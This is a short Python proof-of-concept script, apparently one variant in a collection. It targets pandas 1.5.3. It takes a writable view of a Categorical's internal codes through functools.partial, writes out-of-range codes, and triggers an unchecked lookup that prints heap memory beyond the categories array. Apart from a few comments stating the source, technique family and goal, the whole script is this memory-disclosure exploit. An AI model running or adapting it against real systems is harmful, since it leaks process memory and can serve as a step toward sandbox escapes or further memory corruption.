# source: pandas 1.5.3 pandas/core/arrays/_mixins.py NDArrayBackedExtensionArray.view (Categorical inherits it) returns self._ndarray.view(dtype), a writable view of the codes; take_nd (libalgos take_1d_int64_int64) then reads the categories at them unchecked
# family: writable Categorical codes: the bound view method called through functools.partial
# goal: write out-of-range codes and read heap memory beyond the categories array (np.asarray(cat) prints heap words)
import functools

import numpy as np
import pandas as pd

cat = pd.Categorical([1, 2, 3], categories=[1, 2, 3])
w = functools.partial(cat.view, "int8")()
w[0] = 100
w[1] = -20
print(type(w).__name__, w)
print([hex(int(v)) for v in np.asarray(cat)])
